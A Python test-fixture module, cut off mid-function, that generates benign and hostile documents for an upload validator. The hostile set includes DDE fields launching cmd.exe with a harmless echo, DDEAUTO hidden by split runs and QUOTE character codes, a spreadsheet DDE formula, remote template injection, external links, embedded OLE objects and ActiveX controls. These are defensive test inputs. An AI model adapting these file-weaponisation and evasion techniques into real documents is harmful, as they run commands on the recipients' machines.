"""Generators of good and hostile drops, written into a folder at test time.

Nothing here is a committed binary: every file is built by openpyxl, python-docx, pypdf or by
hand from documented byte layouts. Each `make_*` function takes a folder, writes one file into
it and returns its path; the optional `name` sets the file name (the extension is part of the
trick for renamed files).

`CORPUS` lists every hostile kind with the inbox kinds it is dropped against and a fragment the
Indonesian rejection reason (`Rejected.alasan`) must contain, so end-to-end tests can be
parametrised over it: `@pytest.mark.parametrize("hostile", CORPUS, ids=lambda h: h.kind)`.
`ACTIVE` is the part of it that is active content (DDE, external links, embedded objects,
ActiveX, templates); the harmless look-alikes (hyperlinks, everyday fields, charts) are made
here too, so the checks can be shown not to refuse them.
"""

from __future__ import annotations

import io
import os
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

import docx
import openpyxl
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from pypdf import PdfReader, PdfWriter

MIB = 1024 * 1024
MARKER = "PENANDA-TEKS"  # replaced by an entity reference in the XML attacks

# --- valid files the hostile ones are derived from ---------------------------------------------


def make_xlsx(
    folder: Path, name: str = "formulir.xlsx", rows: Sequence[Sequence[object]] | None = None
) -> Path:
    """A plain workbook (one sheet "Data") holding `rows`; strings starting "=" are formulas."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Data"
    for row in rows if rows is not None else [["Kode", "Realisasi"], ["IKU-1", 10]]:
        sheet.append(list(row))
    path = folder / name
    book.save(path)
    return path


def make_docx(folder: Path, name: str = "dokumen.docx", paragraphs: Sequence[str] = ()) -> Path:
    """A Word document with the given paragraphs (default: one paragraph holding MARKER)."""
    document = docx.Document()
    for text in paragraphs or [MARKER]:
        document.add_paragraph(text)
    path = folder / name
    document.save(str(path))
    return path


def pdf_bytes(pages: Sequence[str]) -> bytes:
    """A minimal, valid PDF with one line of Helvetica text per page (built by hand)."""
    count = len(pages)
    kids = " ".join(f"{4 + 2 * i} 0 R" for i in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for i, text in enumerate(pages):
        escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        stream = f"BT /F1 12 Tf 72 720 Td ({escaped}) Tj ET".encode("latin-1")
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {5 + 2 * i} 0 R "
            "/Resources << /Font << /F1 3 0 R >> >> >>".encode()
        )
        objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream))
    return pdf_file(objects)


def pdf_file(objects: list[bytes]) -> bytes:
    """A PDF of these numbered objects (1 is the catalog), with a correct xref table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def make_pdf(
    folder: Path, name: str = "surat.pdf", pages: Sequence[str] = ("DK-2026-001",)
) -> Path:
    """A valid PDF with one line of text per page."""
    path = folder / name
    path.write_bytes(pdf_bytes(pages))
    return path


def png_bytes(width: int = 2, height: int = 2) -> bytes:
    """A valid grey PNG image, built from its chunk layout."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = b"".join(b"\x00" + b"\x80" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(pixels))
        + chunk(b"IEND", b"")
    )


def make_png(folder: Path, name: str = "pindaian.png") -> Path:
    """A valid small PNG (e.g. a photographed disposition)."""
    path = folder / name
    path.write_bytes(png_bytes())
    return path


GIF_1X1 = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
"""A one-pixel GIF: header, colour table, image block, and the trailer byte ";"."""


def gif_bytes(comment: str = "Pindaian disposisi " * 20) -> bytes:
    """The one-pixel GIF with a comment block before its image (to give it some length)."""
    text = comment.encode("ascii")
    blocks = b"".join(
        bytes([len(text[i : i + 255])]) + text[i : i + 255] for i in range(0, len(text), 255)
    )
    table_end = 13 + 6  # header and screen descriptor, then a two-colour table
    return GIF_1X1[:table_end] + b"!\xfe" + blocks + b"\x00" + GIF_1X1[table_end:]


def bmp_bytes(width: int = 2, height: int = 2) -> bytes:
    """A valid 24-bit BMP image, built from its header layout (rows padded to 4 bytes)."""
    row = (b"\x80\x80\x80" * width).ljust(-(-3 * width // 4) * 4, b"\x00")
    pixels = row * height
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, len(pixels), 2835, 2835, 0, 0)
    size = 14 + len(info) + len(pixels)
    return struct.pack("<2sIHHI", b"BM", size, 0, 0, 14 + len(info)) + info + pixels


def tiff_bytes(width: int = 2, height: int = 2) -> bytes:
    """A valid little-endian greyscale TIFF, its image directory after the pixels (as most
    scanners write it), so a file cut short or still zeros at the end has no directory."""
    pixels = b"\x80" * (width * height)
    ifd_offset = 8 + len(pixels)
    tags = [(256, 3, width), (257, 3, height), (258, 3, 8), (259, 3, 1), (262, 3, 1),
            (273, 4, 8), (277, 3, 1), (278, 3, height), (279, 4, len(pixels))]  # fmt: skip
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    directory = struct.pack("<H", len(tags)) + entries + struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", ifd_offset) + pixels + directory


def make_gif(folder: Path, name: str = "pindaian.gif") -> Path:
    """A valid one-pixel GIF image."""
    path = folder / name
    path.write_bytes(gif_bytes())
    return path


def make_bmp(folder: Path, name: str = "pindaian.bmp") -> Path:
    """A valid small BMP image (as Paint saves a scan)."""
    path = folder / name
    path.write_bytes(bmp_bytes())
    return path


# --- empty, huge, renamed, truncated ----------------------------------------------------------


def make_zero_byte(folder: Path, name: str = "kosong.xlsx") -> Path:
    """An empty file (0 bytes), as left by a failed copy."""
    path = folder / name
    path.write_bytes(b"")
    return path


def make_huge(folder: Path, name: str = "besar.pdf", size: int = 50 * MIB + 1) -> Path:
    """A sparse file of `size` bytes starting like a PDF (no disk space is used)."""
    path = folder / name
    with path.open("wb") as handle:
        handle.write(b"%PDF-1.4\n")
        handle.truncate(size)
    return path


def make_pdf_named_xlsx(folder: Path, name: str = "formulir.xlsx") -> Path:
    """A real PDF whose name says .xlsx."""
    return make_pdf(folder, name)


def make_docx_named_xlsx(folder: Path, name: str = "formulir.xlsx") -> Path:
    """A real Word document whose name says .xlsx (a zip, but the wrong Office kind)."""
    return make_docx(folder, name)


def make_xlsx_named_docx(folder: Path, name: str = "draf.docx") -> Path:
    """A real workbook whose name says .docx."""
    return make_xlsx(folder, name)


def make_text_named_pdf(folder: Path, name: str = "ttd.pdf") -> Path:
    """Plain text whose name says .pdf."""
    path = folder / name
    path.write_text("ini bukan PDF, hanya teks biasa\n", encoding="utf-8")
    return path


def make_text_named_docx(folder: Path, name: str = "draf.docx") -> Path:
    """Plain text whose name says .docx (not a zip at all)."""
    return make_text_named_pdf(folder, name)


def make_plain_zip_named_docx(folder: Path, name: str = "draf.docx") -> Path:
    """An ordinary zip archive (no Office parts) whose name says .docx."""
    path = folder / name
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("catatan.txt", "lampiran")
    return path


def make_ods_named_xlsx(folder: Path, name: str = "formulir.xlsx") -> Path:
    """An OpenDocument spreadsheet (LibreOffice's own format) whose name says .xlsx."""
    path = folder / name
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
    return path


def _truncate_copy(source: Path, keep: float = 0.5) -> Path:
    data = source.read_bytes()
    source.write_bytes(data[: int(len(data) * keep)])
    return source


def make_truncated_xlsx(folder: Path, name: str = "terpotong.xlsx") -> Path:
    """A workbook cut in half (its zip central directory is missing), as from a broken copy."""
    return _truncate_copy(make_xlsx(folder, name, [["Kode"]] + [[f"IKU-{i}"] for i in range(200)]))


def make_truncated_docx(folder: Path, name: str = "terpotong.docx") -> Path:
    """A Word document cut in half."""
    return _truncate_copy(make_docx(folder, name))


def make_truncated_pdf(folder: Path, name: str = "terpotong.pdf") -> Path:
    """A PDF cut in half (no %%EOF, no cross-reference table)."""
    return _truncate_copy(make_pdf(folder, name, ["halaman satu", "halaman dua"]))


def make_truncated_gif(folder: Path, name: str = "terpotong.gif") -> Path:
    """A GIF without its trailer byte."""
    path = folder / name
    path.write_bytes(gif_bytes()[:-4])
    return path


def make_truncated_bmp(folder: Path, name: str = "terpotong.bmp") -> Path:
    """A BMP shorter than the size its header declares."""
    path = folder / name
    path.write_bytes(bmp_bytes(64, 64)[:500])
    return path


def make_truncated_png(folder: Path, name: str = "terpotong.png") -> Path:
    """A PNG without its end (no IEND chunk)."""
    path = folder / name
    path.write_bytes(png_bytes(64, 64)[:40])
    return path


# --- PDFs: encrypted, page-less ----------------------------------------------------------------


def make_encrypted_pdf(
    folder: Path,
    name: str = "terkunci.pdf",
    password: str = "rahasia",  # noqa: S107 - a test file's password, not a secret
) -> Path:
    """A PDF that needs a user password to open (pypdf encryption)."""
    return _encrypt(make_pdf(folder, name), user_password=password)


def make_owner_locked_pdf(
    folder: Path, name: str = "dibatasi.pdf", pages: Sequence[str] = ("DK-2026-001",)
) -> Path:
    """A PDF with only an owner password (permissions): it opens without a password."""
    return _encrypt(make_pdf(folder, name, pages), user_password="")


def _encrypt(path: Path, user_password: str) -> Path:
    writer = PdfWriter(clone_from=PdfReader(path))
    writer.encrypt(user_password=user_password, owner_password="pemilik", algorithm="AES-128")
    with path.open("wb") as handle:
        writer.write(handle)
    return path


def make_certificate_pdf(folder: Path, name: str = "ttd-sertifikat.pdf") -> Path:
    """A PDF encrypted for certificate holders (security handler /Adobe.PubSec), written by hand:
    its /Encrypt dictionary names recipients instead of holding password hashes."""
    encrypt = (
        b"<< /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /Length 128 "
        b"/CF << /DefaultCryptFilter << /CFM /AESV2 /Recipients [<3082010a>] >> >> "
        b"/StmF /DefaultCryptFilter /StrF /DefaultCryptFilter >>"
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        encrypt,
    ]
    file_id = b"<00112233445566778899aabbccddeeff>"
    trailer = b"/Root 1 0 R /Encrypt 4 0 R /ID [%s %s] >>" % (file_id, file_id)
    path = folder / name
    path.write_bytes(pdf_file(objects).replace(b"/Root 1 0 R >>", trailer))
    return path


def make_pdf_without_pages(folder: Path, name: str = "tanpa-halaman.pdf") -> Path:
    """A well-formed PDF whose page tree is empty."""
    path = folder / name
    path.write_bytes(pdf_bytes([]))
    return path


# --- OLE / CFB containers ------------------------------------------------------------------------


SECTOR = 512
FREE_SECTOR, END_OF_CHAIN, FAT_SECTOR, NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def cfb_bytes(streams: Sequence[str], size: int = 4096) -> bytes:
    """A real OLE compound file (CFB version 3, 512-byte sectors) that `olefile` opens.

    `streams[0]` names the root storage; every other name becomes a stream of `size` random
    bytes (at least 4096, so no mini stream is needed). Layout: header, one FAT sector, the
    directory, then each stream's sectors, chained in the FAT. At most about 60 KiB in all.
    """
    assert size >= 4096, "streams under 4096 bytes would belong in the mini stream"
    names = sorted(streams[1:], key=lambda n: (len(n), n.upper()))  # the CFB sibling order
    directory = _cfb_directory(streams[0], names, size)
    data_start = 1 + len(directory) // SECTOR
    per_stream = -(-size // SECTOR)
    fat = _cfb_fat(len(directory) // SECTOR, per_stream, len(names))
    body = b"".join(os.urandom(size).ljust(per_stream * SECTOR, b"\x00") for _ in names)
    assert data_start + per_stream * len(names) <= SECTOR // 4, "one FAT sector maps 128 sectors"
    return _cfb_header() + fat + directory + body


def _cfb_header() -> bytes:
    header = bytearray(SECTOR)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:34] = struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    header[44:76] = struct.pack("<8I", 1, 1, 0, 4096, END_OF_CHAIN, 0, END_OF_CHAIN, 0)
    header[76:512] = struct.pack("<109I", 0, *[FREE_SECTOR] * 108)  # the FAT is sector 0
    return bytes(header)


def _cfb_directory(root: str, names: list[str], size: int) -> bytes:
    first_data = 1 + -(-(len(names) + 1) // 4)
    per_stream = -(-size // SECTOR)
    entries = [_cfb_entry(root, 5, child=1 if names else NO_STREAM)]
    for index, name in enumerate(names, start=1):
        right = index + 1 if index < len(names) else NO_STREAM
        start = first_data + (index - 1) * per_stream
        entries.append(_cfb_entry(name, 2, right=right, start=start, size=size))
    while len(entries) % 4:
        entries.append(_cfb_entry("", 0))
    return b"".join(entries)


def _cfb_entry(
    name: str,
    kind: int,
    *,
    right: int = NO_STREAM,
    child: int = NO_STREAM,
    start: int = END_OF_CHAIN,
    size: int = 0,
) -> bytes:
    encoded = (name + "\x00").encode("utf-16-le") if name else b""
    head = encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1 if name else 0)
    links = struct.pack("<III", NO_STREAM, right, child)
    return head + links + bytes(36) + struct.pack("<IQ", start if name else 0, size)


def _cfb_fat(directory_sectors: int, per_stream: int, streams: int) -> bytes:
    entries = [FAT_SECTOR]
    for run in [directory_sectors] + [per_stream] * streams:
        first = len(entries)
        entries += [*range(first + 1, first + run), END_OF_CHAIN]
    entries += [FREE_SECTOR] * (SECTOR // 4 - len(entries))
    return struct.pack(f"<{len(entries)}I", *entries)


def make_password_xlsx(folder: Path, name: str = "formulir.xlsx") -> Path:
    """A "password-protected" workbook: Excel stores those as an encrypted OLE container."""
    path = folder / name
    path.write_bytes(cfb_bytes(["Root Entry", "EncryptionInfo", "EncryptedPackage"]))
    return path


def make_password_docx(folder: Path, name: str = "draf.docx") -> Path:
    """A "password-protected" Word document (encrypted OLE container)."""
    return make_password_xlsx(folder, name)


def make_legacy_xls(folder: Path, name: str = "formulir.xls") -> Path:
    """An old binary-format workbook (.xls, OLE container with a Workbook stream)."""
    path = folder / name
    path.write_bytes(cfb_bytes(["Root Entry", "Workbook", "\x05SummaryInformation"]))
    return path


BIFF_BOF_SIZES = {0x0009: 4, 0x0209: 6, 0x0409: 6, 0x0809: 8}  # BIFF2, BIFF3, BIFF4, BIFF5


def biff_bytes(bof: int = 0x0409) -> bytes:
    """An old BIFF2-BIFF5 worksheet stream as Excel 2.x-5.0 saved it, not in an OLE container:
    BOF record (`bof`; version, document type "worksheet", build), one NUMBER cell, EOF."""
    size = BIFF_BOF_SIZES[bof]
    body = struct.pack("<HH", 0x0500 if bof == 0x0809 else 0, 0x0010).ljust(size, b"\x00")
    records = [
        struct.pack("<HH", bof, size) + body,
        struct.pack("<HHHHHd", 0x0203, 14, 0, 1, 15, 12.5),
        struct.pack("<HH", 0x000A, 0),
    ]
    return b"".join(records)


def make_biff4_xls(folder: Path, name: str = "formulir.xls") -> Path:
    """An Excel 4.0 worksheet (.xls, BIFF4): a bare record stream, no OLE container."""
    path = folder / name
    path.write_bytes(biff_bytes(0x0409))
    return path


def make_rtf(folder: Path, name: str = "draf.rtf") -> Path:
    """A Rich Text Format document (as WordPad or "Save as RTF" writes it)."""
    path = folder / name
    path.write_text(
        "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\f0\\fs24 Draf data kinerja\\par}",
        encoding="ascii",
    )
    return path


XLSB_TYPE = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"


def make_xlsb(folder: Path, name: str = "formulir.xlsb") -> Path:
    """An Excel Binary Workbook: a zip like .xlsx, but its parts are binary records."""
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    path = folder / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            f'relationships+xml"/><Override PartName="/xl/workbook.bin" ContentType="{XLSB_TYPE}"/>'
            "</Types>",
        )
        archive.writestr(
            "_rels/.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.bin"/>'
            "</Relationships>",
        )
        archive.writestr("xl/workbook.bin", b"\x83\x01\x00\x80\x01\x00\x84\x01\x00")
    return path


# --- macros -----------------------------------------------------------------------------------

VBA_TYPE = "application/vnd.ms-office.vbaProject"
VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def make_xlsm(folder: Path, name: str = "formulir.xlsm") -> Path:
    """A macro-enabled workbook: vbaProject.bin part and the macroEnabled content type."""
    path = make_xlsx(folder, name)
    return _add_vba(path, "xl", "spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main")


def make_docm(folder: Path, name: str = "draf.docm") -> Path:
    """A macro-enabled Word document (vbaProject.bin part, macroEnabled content type)."""
    path = make_docx(folder, name)
    return _add_vba(
        path, "word", "wordprocessingml.document.main", "ms-word.document.macroEnabled.main"
    )


def _add_vba(path: Path, folder: str, plain_type: str, macro_type: str) -> Path:
    def types(xml: bytes) -> bytes:
        xml = xml.replace(
            f"openxmlformats-officedocument.{plain_type}".encode(), macro_type.encode()
        )
        vba = f'<Default Extension="bin" ContentType="{VBA_TYPE}"/>'.encode()
        return xml.replace(b"</Types>", vba + b"</Types>")

    rels_name = f"{folder}/_rels/{'workbook' if folder == 'xl' else 'document'}.xml.rels"

    def rels(xml: bytes) -> bytes:
        rel = f'<Relationship Id="rIdVba" Type="{VBA_REL}" Target="vbaProject.bin"/>'.encode()
        return xml.replace(b"</Relationships>", rel + b"</Relationships>")

    edits = {"[Content_Types].xml": types, rels_name: rels}
    return rewrite_zip(path, edits, {f"{folder}/vbaProject.bin": os.urandom(2048)})


def rewrite_zip(
    path: Path,
    edits: dict[str, Callable[[bytes], bytes]],
    extra: dict[str, bytes] | None = None,
) -> Path:
    """Rewrite the zip at `path` in place: apply `edits` to named members, append `extra` ones."""
    source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename in edits:
                data = edits[info.filename](data)
            target.writestr(info.filename, data)
        for member, data in (extra or {}).items():
            target.writestr(member, data)
    return path


# --- active content: DDE, external links, embedded objects, ActiveX, templates -------------------

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SML = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
WORD_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DDE_COMMAND = '"C:\\\\Windows\\\\System32\\\\cmd.exe" "/c echo uji"'
DOCUMENT_RELS = "word/_rels/document.xml.rels"
SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"


def relationship(rel_id: str, kind: str, target: str, *, external: bool = False) -> str:
    """One `<Relationship>`; `kind` is the last part of its type (`oleObject`, `image` ...)."""
    uri = kind if "/" in kind else f"{REL}/{kind}"
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rel_id}" Type="{uri}" Target="{target}"{mode}/>'


def relationships(*items: str) -> bytes:
    """A whole `.rels` part holding `items`."""
    ns = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{ns}">{"".join(items)}</Relationships>'.encode()


def add_relationships(*items: str) -> Callable[[bytes], bytes]:
    """An edit appending `items` to an existing `.rels` part."""
    return lambda xml: xml.replace(
        b"</Relationships>", "".join(items).encode() + b"</Relationships>"
    )


def add_types(*entries: str) -> Callable[[bytes], bytes]:
    """An edit appending `<Default>`/`<Override>` entries to `[Content_Types].xml`."""
    return lambda xml: xml.replace(b"</Types>", "".join(entries).encode() + b"</Types>")


def replace_body(paragraphs: str) -> Callable[[bytes], bytes]:
    """An edit of word/document.xml putting `paragraphs` where `make_docx`'s MARKER paragraph is."""
    marker = f"<w:p><w:r><w:t>{MARKER}</w:t></w:r></w:p>".encode()

    def edit(xml: bytes) -> bytes:
        assert marker in xml, "make_docx writes one paragraph holding MARKER"
        return xml.replace(marker, paragraphs.encode())

    return edit


def field_paragraph(pieces: Sequence[str], wrap: str = "") -> str:
    """A paragraph holding one complex field whose code is split over one run per piece,
    optionally inside an element `wrap` (e.g. `w:ins w:id="1" w:author="x"`)."""
    runs = [
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
        *(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces),
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>',
        f"<w:r><w:t>{MARKER}</w:t></w:r>",
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    ]
    inner = "".join(runs)
    if wrap:
        inner = f"<{wrap}>{inner}</{wrap.split()[0]}>"
    return f"<w:p>{inner}</w:p>"


def make_dde_fldsimple_docx(folder: Path, name: str = "draf.docx") -> Path:
    """A Word document whose only paragraph is a simple field `DDE <program> <topic>`."""
    body = f"<w:p><w:fldSimple w:instr='DDE {DDE_COMMAND} \"A1\"'><w:r><w:t>{MARKER}</w:t></w:r></w:fldSimple></w:p>"
    return rewrite_zip(make_docx(folder, name), {"word/document.xml": replace_body(body)})


def make_ddeauto_split_docx(folder: Path, name: str = "draf.docx", wrap: str = "") -> Path:
    """A Word document with a DDEAUTO field whose code is split over runs ("DDE" + "AUTO ..."),
    as Word stores a field typed in pieces; `wrap` nests the runs (tracked change, hyperlink)."""
    body = field_paragraph([" DDE", "AUTO ", DDE_COMMAND], wrap)
    return rewrite_zip(make_docx(folder, name), {"word/document.xml": replace_body(body)})


def make_quoted_dde_docx(folder: Path, name: str = "draf.docx") -> Path:
    """A field whose command word is spelled by a nested QUOTE field of character codes
    (68 68 69 65 85 84 79 = "DDEAUTO"), a known way of hiding DDE from plain text search."""
    codes = " ".join(str(ord(c)) for c in "DDEAUTO")
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">QUOTE {codes}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {DDE_COMMAND}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return rewrite_zip(make_docx(folder, name), {"word/document.xml": replace_body(body)})


def make_remote_template_docx(
    folder: Path,
    name: str = "draf.docx",
    target: str = "https://contoh.invalid/templat/surat.dotm",
) -> Path:
    """A Word document attached to a template on a web server (settings.xml.rels,
    `attachedTemplate`, TargetMode External): Word fetches it when the file is opened."""

    def settings(xml: bytes) -> bytes:
        return re.sub(rb"(<w:proofState[^>]*/>)", rb'\1<w:attachedTemplate r:id="rIdTpl"/>', xml)

    rels = relationships(relationship("rIdTpl", "attachedTemplate", target, external=True))
    path = make_docx(folder, name)
    return rewrite_zip(
        path, {"word/settings.xml": settings}, {"word/_rels/settings.xml.rels": rels}
    )


def make_linked_image_docx(folder: Path, name: str = "draf.docx") -> Path:
    """A Word document with a picture inserted as "Link to File": the picture's relationship
    points at a file on a server (TargetMode External) and the body uses `r:link`."""
    document = docx.Document()
    document.add_picture(io.BytesIO(png_bytes(8, 8)))
    path = folder / name
    document.save(str(path))
    target = "file:///\\\\fileserver\\gambar\\logo.png"

    def rels(xml: bytes) -> bytes:
        pattern = rb'(Type="[^"]*/image") Target="[^"]*"'
        linked = b' Target="%s" TargetMode="External"' % target.encode()
        return re.sub(pattern, lambda found: found.group(1) + linked, xml)

    def body(xml: bytes) -> bytes:
        return xml.replace(b"r:embed=", b"r:link=")

    return rewrite_zip(path, {DOCUMENT_RELS: rels, "word/document.xml": body})


def make_xlsx_external_link(folder: Path, name: str = "formulir.xlsx") -> Path:
    """A workbook whose cell reads another workbook on a file server (externalLink part with an
    `externalLinkPath` relationship, TargetMode External), as Excel saves `=[anggaran.xlsx]...`."""
    path = make_xlsx(folder, name, [["Kode", "Realisasi"], ["IKU-1", "=[1]Data!B2"]])
    book = (
        '<externalBook r:id="rId1"><sheetNames><sheetName val="Data"/></sheetNames></externalBook>'
    )
    link_rels = relationships(
        relationship(
            "rId1",
            "externalLinkPath",
            "file:///\\\\fileserver\\keuangan\\anggaran.xlsx",
            external=True,
        )
    )
    return _add_external_link(
        path, book, {"xl/externalLinks/_rels/externalLink1.xml.rels": link_rels}
    )


def make_xlsx_dde_link(folder: Path, name: str = "formulir.xlsx") -> Path:
    """A workbook carrying a DDE link (`ddeLink` in an externalLink part), as Excel saves a cell
    formula `=cmd|'/c ...'!A0`."""
    dde = (
        '<ddeLink ddeService="cmd" ddeTopic="/c echo uji">'
        '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'
    )
    return _add_external_link(make_xlsx(folder, name), dde, {})  # Excel writes no .rels here


def _add_external_link(path: Path, body: str, extra: dict[str, bytes]) -> Path:
    part = f'<?xml version="1.0"?><externalLink xmlns="{SML}" xmlns:r="{REL}">{body}</externalLink>'
    reference = (
        f'<externalReferences><externalReference xmlns:r="{REL}" r:id="rIdExt1"/>'
        "</externalReferences>"
    )
    link_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    edits = {
        "xl/workbook.xml": lambda xml: xml.replace(b"</sheets>", b"</sheets>" + reference.encode()),
        "xl/_rels/workbook.xml.rels": add_relationships(
            relationship("rIdExt1", "externalLink", "externalLinks/externalLink1.xml")
        ),
        "[Content_Types].xml": add_types(
            f'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="{link_type}"/>'
        ),
    }
    return rewrite_zip(path, edits, {"xl/externalLinks/externalLink1.xml": part.encode(), **extra})


def make_xlsx_dde_formula(folder: Path, name: str = "formulir.xlsx") -> Path:
    """A workbook whose Realisasi cell is a DDE formula `=cmd|'/c ...'!A0` (written by a program,
    so no externalLink part yet: Excel makes the link when it opens the file)."""
    return make_xlsx(folder, name, [["Kode", "Realisasi"], ["IKU-1", "=cmd|'/c echo uji'!A0"]])


OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"


def make_ole_object_docx(folder: Path, name: str = "draf.docx") -> Path:
    """A Word document with an embedded OLE object (word/embeddings/oleObject1.bin, a CFB file
    holding an Ole10Native package, linked from the document part)."""
    return _add_ole(make_docx(folder, name), "word", DOCUMENT_RELS)


def make_ole_object_xlsx(folder: Path, name: str = "formulir.xlsx") -> Path:
    """A workbook with an embedded OLE object on its sheet (xl/embeddings/oleObject1.bin)."""
    path = make_xlsx(folder, name)
    with zipfile.ZipFile(path) as archive:
        has_rels = SHEET_RELS in archive.namelist()
    assert not has_rels, "openpyxl writes no sheet relationships for a plain sheet"
    rewrite_zip(path, {}, {SHEET_RELS: relationships()})
    return _add_ole(path, "xl", SHEET_RELS)


def _add_ole(path: Path, top: str, rels_part: str) -> Path:
    target = "embeddings/oleObject1.bin" if top == "word" else "../embeddings/oleObject1.bin"
    edits = {
        rels_part: add_relationships(relationship("rIdOle1", "oleObject", target)),
        "[Content_Types].xml": add_types(f'<Default Extension="bin" ContentType="{OLE_TYPE}"/>'),
    }
    ole = cfb_bytes(["Root Entry", "\x01Ole10Native", "\x01CompObj"])
    return rewrite_zip(path, edits, {f"{top}/embeddings/oleObject1.bin": ole})


ACTIVEX_CLASS = "{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"  # Forms 2.0 ComboBox


def make_activex_docx(folder: Path, name: str = "draf.docx") -> Path:
    """A Word document carrying an ActiveX control (word/activeX/activeX1.xml + .bin)."""
    return _add_activex(make_docx(folder, name), "word", DOCUMENT_RELS, "activeX/activeX1.xml")


def make_activex_xlsx(folder: Path, name: str = "formulir.xlsx") -> Path:
    """A workbook carrying an ActiveX control on its sheet (xl/activeX/activeX1.xml + .bin)."""
    path = rewrite_zip(make_xlsx(folder, name), {}, {SHEET_RELS: relationships()})
    return _add_activex(path, "xl", SHEET_RELS, "../activeX/activeX1.xml")


def _add_activex(path: Path, top: str, rels_part: str, target: str) -> Path:
    control = (
        '<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        f'xmlns:r="{REL}" ax:classid="{ACTIVEX_CLASS}" ax:persistence="persistStorage" r:id="rId1"/>'
    )
    binary = "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary"
    edits = {
        rels_part: add_relationships(relationship("rIdAx1", "control", target)),
        "[Content_Types].xml": add_types(
            f'<Override PartName="/{top}/activeX/activeX1.xml" '
